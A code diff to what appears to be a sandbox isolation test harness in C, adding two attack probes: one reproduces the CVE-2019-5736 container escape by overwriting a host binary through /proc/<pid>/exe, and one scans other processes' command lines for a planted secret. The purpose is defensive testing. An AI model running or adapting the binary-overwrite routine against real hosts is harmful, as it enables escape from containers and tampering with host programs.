@@ -91,6 +91,48 @@ static long attack_chroot_out(void) {
   errno = EXDEV;
   return before.st_dev == after.st_dev && before.st_ino == after.st_ino ? -1 : 0;
 }
+// Waits for a process whose program is not of the image, keeps hold of the program and writes to it
+// when it has ended. Only success ends it. [CVE-2019-5736]
+static long attack_exe(void) {
+  char path[64];
+  struct stat own;
+  struct stat seen;
+  if (stat("/proc/self/exe", &own) < 0) return -1;
+  for (int held = -1;;) {
+    for (int pid = 2; pid < 100; ++pid) {
+      (void)snprintf(path, sizeof path, "/proc/%d/exe", pid);
+      const int fd = open(path, O_RDONLY | O_CLOEXEC);
+      if (fd < 0) continue;
+      if (fstat(fd, &seen) < 0 || (seen.st_dev == own.st_dev && seen.st_ino == own.st_ino)) {
+        (void)close(fd);
+        continue;
+      }
+      if (held >= 0) (void)close(held);
+      held = fd;
+      (void)snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+      int out = -1;
+      for (int i = 0; i < 500 && out < 0; ++i) {  // Busy while it runs.
+        out = open(path, O_WRONLY | O_CLOEXEC);
+        if (out < 0 && errno != ETXTBSY) break;
+        if (out < 0) usleep(1000);
+      }
+      if (out >= 0 && write(out, "overwritten\n", 12) > 0) return 0;
+      if (out >= 0) (void)close(out);
+    }
+  }
+}
+// Waits for a command line that holds a secret. Only success ends it.
+static long attack_cmdline(void) {
+  for (;;)
+    for (int pid = 2; pid < 100; ++pid) {
+      char text[4096];
+      (void)snprintf(text, sizeof text, "/proc/%d/cmdline", pid);
+      const int fd = open(text, O_RDONLY | O_CLOEXEC);
+      const ssize_t size = fd < 0 ? 0 : read(fd, text, sizeof text);
+      if (fd >= 0) (void)close(fd);
+      if (size > 0 && memmem(text, (size_t)size, "VERYSECRET", 10) != NULL) return 0;
+    }
+}
 
 static const struct {
   const char* name;
@@ -121,6 +163,8 @@ static const struct {
     {"raw-socket", attack_raw_socket},
     {"ptrace-parent", attack_ptrace_parent},
     {"chroot-out", attack_chroot_out},
+    {"exe", attack_exe},
+    {"cmdline", attack_cmdline},
 };
 
 int main(int argc, char** argv) {
